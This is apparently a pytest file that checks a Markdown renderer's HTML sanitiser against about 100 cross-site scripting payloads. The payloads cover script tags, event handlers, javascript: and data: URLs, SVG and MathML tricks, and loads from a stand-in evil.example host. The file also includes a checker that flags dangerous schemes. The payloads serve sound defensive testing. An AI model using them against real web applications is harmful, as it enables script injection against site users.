"""No executable content survives ``render_markdown`` (gui.md §6.6.5, AC-NOTE-6).

Each payload is rendered by the display pipeline, the output is parsed with
Python's ``html.parser`` and the parsed elements and attributes are checked:
literal text such as ``onclick=`` inside a paragraph is harmless and allowed.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import markdown
import pytest

from lamingui.blocks.render import render_markdown

#: elements that must never reach a page
FORBIDDEN_TAGS = frozenset(
    {
        *("script", "style", "iframe", "frame", "frameset", "object", "embed"),
        *("form", "input", "button", "textarea", "select", "svg", "math"),
        *("base", "meta", "link", "template", "applet", "details", "video"),
        *("audio", "source", "noscript", "marquee", "isindex", "portal"),
    }
)
#: the only elements the sanitiser lets through (the allow-list of the brief)
ALLOWED_TAGS = frozenset(
    {
        *("p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "strong"),
        *("em", "code", "pre", "blockquote", "a", "img", "table", "thead"),
        *("tbody", "tr", "th", "td", "hr", "br", "del"),
    }
)
BAD_SCHEMES = frozenset({"javascript", "data", "vbscript"})
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
_CONTROL = re.compile(r"[\x00-\x20\x7f-\x9f]+")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see: unescaped, controls and blanks removed."""
    cleaned = _CONTROL.sub("", html.unescape(value)).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def violations(output: str) -> list[str]:
    """Everything executable or outside the allow-list in ``output``."""
    parser = _Collector()
    parser.feed(output)
    parser.close()
    found = []
    for tag, attrs in parser.elements:
        if tag in FORBIDDEN_TAGS:
            found.append(f"forbidden element <{tag}>")
        elif tag not in ALLOWED_TAGS:
            found.append(f"element outside the allow-list <{tag}>")
        names = {name for name, _ in attrs}
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                found.append(f"event handler {name} on <{tag}>")
            if name in {"style", "id"}:
                found.append(f"{name} attribute on <{tag}>")
            if name == "class" and (
                tag != "code" or not re.fullmatch(r"(language-[\w+#.-]+ ?)+", value)
            ):
                found.append(f"class {value!r} on <{tag}>")
            scheme = url_scheme(value)
            if scheme in BAD_SCHEMES:
                found.append(f"{scheme}: URL in {name} of <{tag}>")
            if name in {"href", "src"} and scheme not in SAFE_SCHEMES | {None}:
                found.append(f"scheme {scheme!r} in {name} of <{tag}>")
        if tag == "a" and "href" in names:
            rel = dict(attrs).get("rel") or ""
            if not {"noopener", "noreferrer"} <= set(rel.split()):
                found.append(f"link without rel=noopener noreferrer: {attrs}")
    return found


XSS_PAYLOADS = [
    # script and style
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<!-- c --><style>*{}</style>",
    "<STYLE>@import 'https://evil.example/x.css';</STYLE>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="https://ok.example/a.png" onload="alert(1)">',
    "<body onload=alert(1)>",
    '<p onclick="alert(1)">click</p>',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<div onpointerenter=alert(1)>x</div>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    # javascript:, data:, vbscript: URLs in links and images
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">'
    "x</a>",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="vbscript:msgbox(1)">',
    '<img srcset="javascript:alert(1) 1x">',
    # Markdown link and image syntax carrying payloads
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    '[x](https://ok.example "title" onclick="alert(1)")',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](https://ok.example/a.png" onerror="alert(1))',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "![x][ref]\n\n[ref]: data:image/svg+xml,<svg onload=alert(1)>",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    '# Title {: onclick="alert(1)" }',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "`<script>alert(1)</script>` and <script>alert(2)</script>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    # iframes, objects, forms, document-level tags
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<IFRAME SRC=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=import href=https://evil.example/x.html>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # CSS in style attributes
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="behavior: url(x.htc)">x</p>',
    # raw HTML blocks and mixed tricks
    '<div markdown="1">*x*<script>alert(1)</script></div>',
    "<table><tr><td onmouseover=alert(1)>x</td></tr></table>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "- <a href=javascript:alert(1)>x</a>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '<a href="https://ok.example" id="x" class="y" style="z">ok</a>',
    '<code class="x onmouseover=alert(1)">x</code>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


def test_corpus_has_at_least_50_payloads():
    assert len(XSS_PAYLOADS) >= 50
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_render_markdown_leaves_nothing_executable(payload):
    assert violations(render_markdown(payload)) == []


def test_corpus_is_dangerous_without_the_sanitiser():
    # the checks above are meaningful: python-markdown alone lets most through
    raw = markdown.Markdown(extensions=["tables", "fenced_code", "sane_lists"])
    flagged = [p for p in XSS_PAYLOADS if violations(raw.reset().convert(p))]
    assert len(flagged) >= len(XSS_PAYLOADS) - 5


@pytest.mark.parametrize(
    "unsafe",
    [
        "<script>alert(1)</script>",
        "<svg></svg>",
        "<math></math>",
        '<p onclick="x">a</p>',
        '<a href="JaVa&#x09;Script:alert(1)" rel="noopener noreferrer">a</a>',
        '<img src=" data:image/png,x">',
        '<a href="vbscript:x" rel="noopener noreferrer">a</a>',
        '<a href="ftp://x" rel="noopener noreferrer">a</a>',
        '<a href="https://x">no rel</a>',
        '<p style="color:red">a</p>',
        '<p class="x">a</p>',
        "<div>a</div>",
        "<base href=x>",
        "<meta http-equiv=refresh>",
        "<link rel=import>",
    ],
)
def test_violations_detects_unsafe_html(unsafe):
    assert violations(unsafe)


@pytest.mark.parametrize(
    ("value", "scheme"),
    [
        ("javascript:x", "javascript"),
        (" JaVaScRiPt:x", "javascript"),
        ("jav\tascript:x", "javascript"),
        ("jav&#x09;ascript:x", "javascript"),
        ("\x01data:x", "data"),
        ("/gui/record/1/", None),
        ("https://x.org/a:b", "https"),
        ("notes.md", None),
    ],
)
def test_url_scheme_sees_what_a_browser_sees(value, scheme):
    assert url_scheme(value) == scheme
